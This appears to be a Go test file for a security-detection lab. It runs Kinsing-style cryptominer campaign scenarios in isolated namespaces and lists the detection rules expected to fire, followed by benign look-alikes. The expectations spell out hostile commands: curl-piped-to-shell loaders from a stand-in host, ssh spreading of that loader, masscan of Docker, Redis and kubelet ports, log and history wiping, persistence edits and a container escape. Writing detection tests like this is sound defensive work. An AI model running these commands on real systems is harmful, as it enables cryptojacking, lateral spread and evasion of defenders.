package lab

import "time"

// The kill chain around the miner (issue 18): a scenario per behaviour of a campaign script
// and a Kinsing-style campaign chaining them, then the benign look-alikes. Each runs its
// script through testdata/lab/ns.sh in pid and mount namespaces of its own (unshare), so
// that its kills see only the lab's processes and its writes to /etc, /root, /var/spool,
// /var/log and nmi_watchdog land in overlays that go with the namespace.

// nsScenario is a scenario that runs testdata/lab/SCRIPT through ns.sh, with a short
// timeout.
func nsScenario(name, title, script string, expect ...Expect) Scenario {
	return Scenario{
		Name: name, Title: title,
		Program: "unshare",
		Args: []string{"--mount", "--pid", "--fork", "--mount-proc", "--kill-child",
			"sh", "{testdata}/ns.sh", "{testdata}/" + script},
		Timeout: 20 * time.Second,
		Expect:  expect,
	}
}

// onHost is an expectation of rule for a process outside containers, with field patterns
// given as key, value pairs.
func onHost(rule string, kv ...string) Expect {
	f := map[string]string{"container.id": hostContainer}
	for i := 0; i+1 < len(kv); i += 2 {
		f[kv[i]] = kv[i+1]
	}
	return Expect{Rule: rule, Fields: f}
}

// The rules' names, as expectations cite them.
const (
	ruleMasquerade = "Process Masquerading as Kernel Thread"
	rulePipe       = "Download Piped to Shell"
	ruleDownload   = "Downloader Wrote File in Temporary or Hidden Directory"
	ruleChmodX     = "File Made Executable in Temporary or Hidden Directory"
	ruleKill       = "Competing Miner Killed"
	rulePreload    = "Dynamic Linker Preload File Written"
	ruleHistory    = "Shell History Cleared"
	ruleCrontab    = "Crontab Installed from Standard Input or Temporary File"
)

var killChainCapture = Capture{
	Name: "lab-killchain",
	Scenarios: []Scenario{
		nsScenario("k1-fetch", "curl|sh, bash -c \"$(curl)\", a payload fetched into /tmp, chmod +x and run", "kc-fetch.sh",
			onHost(rulePipe, "proc.name", "sh", "proc.cmdline", "sh -c curl -fsS http://downloads.example.org/kinsing.sh | sh"),
			onHost(rulePipe, "proc.name", "bash", "proc.cmdline", `bash -c bash -c "$(curl -fsS http://downloads.example.org/x.sh)"`),
			onHost(ruleDownload, "proc.name", "curl", "fd.name", "{tmp}/kc/kinsing"),
			onHost(ruleChmodX, "proc.name", "chmod", "fd.name", "{tmp}/kc/kinsing", "evt.arg.mode", "0755(*"),
			onHost("Script Run from Temporary or Hidden Directory", "proc.name", "kinsing", "proc.exepath", "*/dash",
				"proc.cmdline", "kinsing {tmp}/kc/kinsing")),
		nsScenario("k2-compete", "a rival miner killed with pkill and deleted, a pool port dropped, chattr +i", "kc-compete.sh",
			onHost(ruleKill, "proc.name", "pkill", "proc.cmdline", "pkill -f sysupdate"),
			onHost("Competing Miner Files Deleted", "proc.name", "rm", "fd.name", "{dir}/comp/sysupdate", "evt.type", "unlinkat"),
			onHost("Firewall Rule Drops Mining Pool Port", "proc.name", "iptables", "proc.cmdline", "iptables -A OUTPUT -p tcp --dport 3333 -j DROP"),
			onHost("Immutable Attribute Changed with chattr", "proc.cmdline", "chattr +i {tmp}/kc/cron"),
			onHost("Immutable Attribute Changed with chattr", "proc.cmdline", "chattr -i {tmp}/kc/cron")),
		nsScenario("k3-evade", "agent stopped, ld.so.preload, history and auth.log truncated, touch -r, [kworker], sshd from an odd path", "kc-evade.sh",
			onHost("Security Agent Stopped or Removed", "proc.name", "systemctl", "proc.cmdline", "systemctl stop auditd"),
			onHost(rulePreload, "proc.name", "sh", "fd.name", "/etc/ld.so.preload", "evt.type", "openat"),
			onHost(ruleHistory, "proc.name", "sh", "fd.name", "/root/.bash_history"),
			onHost("Log Files Deleted or Truncated", "proc.name", "sh", "fd.name", "/var/log/auth.log"),
			onHost("Timestomping with touch", "proc.cmdline", "touch -r /bin/ls {tmp}/kc/.sshd"),
			onHost(ruleMasquerade, "proc.name", "labtool", "proc.exe", "[kworker/0:2]", "proc.exepath", "{dir}/bin/labtool"),
			onHost("System Daemon Name from Unusual Path", "proc.name", "sshd", "proc.exepath", "{dir}/drop/sshd")),
		nsScenario("k4-persist", "crontab, crontab -, authorized_keys, systemd unit, rc.local, sudoers, useradd", "kc-persist.sh",
			onHost("Cron Job Written by Non-Editor", "proc.name", "sh", "fd.name", "/etc/crontab"),
			onHost(ruleCrontab, "proc.cmdline", "crontab -"),
			onHost("SSH Authorized Keys Modified by Non-Editor", "proc.name", "sh", "fd.name", "/root/.ssh/authorized_keys"),
			onHost("Systemd Unit Written by Non-Editor", "proc.name", "sh", "fd.name", "/etc/systemd/system/saker-lab-bot.service"),
			onHost("Init Script or rc.local Written by Non-Editor", "proc.name", "sh", "fd.name", "/etc/rc.local"),
			onHost("Account or Sudoers File Written Directly", "proc.name", "sh", "fd.name", "/etc/sudoers"),
			onHost("User Account Created", "proc.cmdline", "useradd -m -s /bin/bash labuser")),
		nsScenario("k5-spread", "known_hosts harvested, ssh loop running a loader, masscan on Docker API, Redis and kubelet ports", "kc-spread.sh",
			onHost("SSH Targets Harvested from Known Hosts or History", "proc.name", "cut", "proc.cmdline", "cut -d  -f1 {tmp}/kc/.ssh/known_hosts"),
			onHost("SSH Command Spreading a Download", "proc.name", "ssh",
				"proc.cmdline", "ssh -oStrictHostKeyChecking=no -oBatchMode=yes -i {tmp}/kc/.ssh/id_rsa root@198.51.100.22 curl -fsS http://downloads.example.org/kinsing.sh | sh"),
			onHost("Network Scanner Executed", "proc.name", "masscan", "proc.cmdline", "masscan -p2375,6379,10250 198.51.100.22 --rate 100"),
			// One finding per port; the scanner's connections are refused (nothing listens).
			onHost("Outbound Connection to Docker API, Redis or Kubelet Port", "proc.name", "masscan", "fd.name", "198.51.100.2:*->198.51.100.22:2375"),
			onHost("Outbound Connection to Docker API, Redis or Kubelet Port", "proc.name", "masscan", "fd.name", "198.51.100.2:*->198.51.100.22:6379"),
			onHost("Outbound Connection to Docker API, Redis or Kubelet Port", "proc.name", "masscan", "fd.name", "198.51.100.2:*->198.51.100.22:10250")),
		nsScenario("k6-escape", "privileged host-root container requested over a Docker socket, nsenter -t 1, a write through /proc/1/root", "kc-escape.sh",
			onHost("Privileged or Host-Root Container Created", "proc.name", "curl", "evt.type", "sendto", "proc.cmdline", "curl -s --unix-socket {tmp}/kc/docker.sock *"),
			onHost("Nsenter into Init's Namespaces", "proc.cmdline", "nsenter -t 1 -m -- true"),
			onHost("Write through Another Process's Root", "proc.name", "sh", "fd.name", "/proc/1/root{tmp}/kc/escape")),
		nsScenario("k7-hijack", "cpulimit, nice on a miner-named program, nmi_watchdog opened for writing", "kc-hijack.sh",
			onHost("CPU Limit or Priority Set to Hide Mining", "proc.name", "cpulimit", "proc.cmdline", "cpulimit -l 50 -p *"),
			onHost("CPU Limit or Priority Set to Hide Mining", "proc.name", "nice", "proc.cmdline", "nice -n 19 {dir}/bin/labtool kdevtmpfsi"),
			onHost("NMI Watchdog Disabled", "proc.name", "labtool", "fd.name", "/proc/sys/kernel/nmi_watchdog")),
		nsScenario("k8-campaign", "Kinsing-style: fetch, kill competitors, cron, ld.so.preload, history, fetch, chmod and run the miner", "kc-campaign.sh",
			onHost(rulePipe, "proc.name", "sh", "proc.cmdline", "sh -c curl -fsS http://downloads.example.org/kinsing.sh | sh"),
			onHost(ruleKill, "proc.cmdline", "pkill -f kworkerds"),
			onHost(ruleCrontab, "proc.cmdline", "crontab -"),
			onHost(rulePreload, "proc.name", "sh", "fd.name", "/etc/ld.so.preload"),
			onHost(ruleHistory, "proc.name", "sh", "fd.name", "/root/.bash_history"),
			onHost(ruleDownload, "proc.name", "curl", "fd.name", "{tmp}/kc/campaign/kinsing.tgz"),
			onHost(ruleChmodX, "proc.name", "chmod", "fd.name", "{tmp}/kc/campaign/kdevtmpfsi"),
			onHost("Execution from Temporary Directory", "proc.name", "kdevtmpfsi", "proc.exepath", "{tmp}/kc/campaign/kdevtmpfsi"),
			onHost(ruleMasquerade, "proc.name", "kdevtmpfsi", "proc.exepath", "{tmp}/kc/campaign/kdevtmpfsi"),
			onHost("DNS Lookup of Mining Pool Domain", "proc.name", "kdevtmpfsi", "dns.query.name", "pool.supportxmr.com", "dns.answer.ip", `["198.51.100.7"]`),
			onHost("Outbound Connection to Mining Pool", "proc.name", "kdevtmpfsi", "fd.sip.name", `["pool.supportxmr.com"]`, "fd.name", "198.51.100.2:*->198.51.100.7:3333"),
			onHost(payload, "proc.name", "kdevtmpfsi", "evt.type", "write", "evt.buffer", `{"id":1,"jsonrpc":"2.0","method":"login",*`),
			onHost(payload, "proc.name", "kdevtmpfsi", "evt.type", "read", "evt.buffer", `{"jsonrpc":"2.0","method":"job",*`),
			// The pool's login reply and the miner's submit: the payload rule knows XMRig's whole
			// protocol in both directions (issue 23).
			onHost(payload, "proc.name", "kdevtmpfsi", "evt.type", "read", "evt.buffer", `{"error":null,"id":1,"jsonrpc":"2.0","result":*`),
			onHost(payload, "proc.name", "kdevtmpfsi", "evt.type", "write", "evt.buffer", `{"id":2,"jsonrpc":"2.0","method":"submit",*`)),
	},
	// The pool's side of the campaign's miner connection.
	Pool: []Expect{
		{Rule: payload, Root: true, Fields: map[string]string{"container.id": hostContainer, "evt.type": "read", "fd.name": "198.51.100.2:*->198.51.100.7:3333"}},
		{Rule: payload, Root: true, Fields: map[string]string{"container.id": hostContainer, "evt.type": "write", "fd.name": "198.51.100.2:*->198.51.100.7:3333"}},
	},
}

var lookalikeCapture = Capture{
	Name: "lab-lookalikes",
	Scenarios: []Scenario{
		nsScenario("b1-dpkg", "a package install: files into /etc, postinst adding a user, enabling a unit, running a downloaded setup script", "benign-apt.sh"),
		nsScenario("b2-ci", "a CI build: make downloads tools, chmod +x, runs them, curl | sh, a generated script in /tmp", "benign-ci.sh"),
		nsScenario("b3-admin", "an administrator: crontab -e with ed, authorized_keys edited with ed, a service restarted", "benign-admin.sh"),
	},
}
